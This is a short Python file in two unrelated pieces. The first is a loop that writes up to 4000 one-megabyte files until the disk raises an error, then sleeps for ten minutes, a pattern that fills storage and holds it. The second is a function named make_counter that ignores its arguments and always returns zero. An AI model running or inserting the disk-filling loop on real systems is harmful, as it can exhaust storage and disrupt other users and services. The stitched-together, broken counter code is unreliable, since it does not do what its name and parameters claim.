import time

number = 0
while number < 4000:
    try:
        with open(f"file{number}", "wb") as file:
            file.write(bytes(1024 * 1024))
    except OSError:
        break
    number += 1
time.sleep(600)


def make_counter(start=0, step=1):
    return lambda: 0
